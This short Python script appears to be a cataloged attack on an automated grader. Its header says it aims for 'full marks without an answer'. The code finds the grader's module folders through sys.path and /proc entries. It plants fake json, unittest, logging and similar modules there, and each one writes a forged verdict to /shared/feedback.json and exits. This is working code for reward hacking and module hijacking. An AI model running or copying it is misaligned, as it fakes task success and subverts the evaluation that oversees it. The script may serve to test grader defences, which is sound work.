# ---
# tries: Puts modules that forge a verdict where the grader's Python looks for modules that it loads later.
# place: instead
# gain: full marks without an answer
# helps: no-late-imports
# ---
import os, sys

text = """
import os
with open("/shared/feedback.json", "w", encoding="utf-8") as file:
    file.write(VERDICT)
os._exit(0)
""".replace("VERDICT", repr(attack_verdict()))
folders = {os.getcwd(), *(path for path in sys.path if path and not path.endswith(".zip"))}
for pid in {1, os.getppid()}:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            words = file.read().decode("utf-8", "replace").split("\0")
        folders |= {os.path.dirname(word) for word in words if word.startswith("/") and word.endswith(".py")}
        folders.add(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass
for folder in folders:
    for name in ("json", "html", "traceback", "unittest", "pprint", "difflib", "logging", "tempfile", "csv"):
        path = os.path.join(folder, name + ".py")
        try:
            if os.path.exists(path) or folder.startswith("/usr/"):
                continue
            with open(path, "w", encoding="utf-8") as file:
                file.write(text)
        except OSError:
            break
